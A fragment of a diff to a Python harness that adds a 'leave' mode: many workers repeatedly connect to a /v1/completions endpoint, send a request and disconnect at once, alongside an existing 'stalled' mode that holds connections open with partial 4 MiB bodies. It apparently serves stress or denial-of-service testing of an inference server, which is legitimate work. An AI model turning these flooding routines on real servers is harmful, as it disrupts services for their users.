@@ -81,6 +81,16 @@ class Attack:
                 self.answers["cut"] += 1
             self.ended.wait(_PAUSE_S)
 
+    def leave(self, number: int, request: bytes) -> None:
+        """Send again and again, and leave at once."""
+        while not self.ended.is_set():
+            try:
+                with self.connect(number) as sock:
+                    sock.sendall(request)
+                self.answers["left"] += 1
+            except OSError:  # no port is free, or the backlog is full
+                self.ended.wait(_PAUSE_S)
+
     def hold(self, num: int, request: bytes) -> None:
         """Open connections, send part of a request on each, and wait."""
         held = []
@@ -108,6 +118,9 @@ def main(kind: str, port: str, num: str, *addresses: str) -> None:
             lambda number=number: attack.send(number, post(*bodies[number % len(bodies)]))  # type: ignore[misc]
             for number in range(int(num))
         ]
+    elif kind == "leave":
+        request = post("/v1/completions", b'{"model": "tiny", "prompt": "x", "max_tokens": 64}')
+        works = [lambda number=number: attack.leave(number, request) for number in range(int(num))]  # type: ignore[misc]
     elif kind == "stalled":
         request = post("/v1/chat/completions", b"[" + b" " * (4 * MIB - 2), 4 * MIB)
         works = [lambda: attack.hold(int(num), request)]
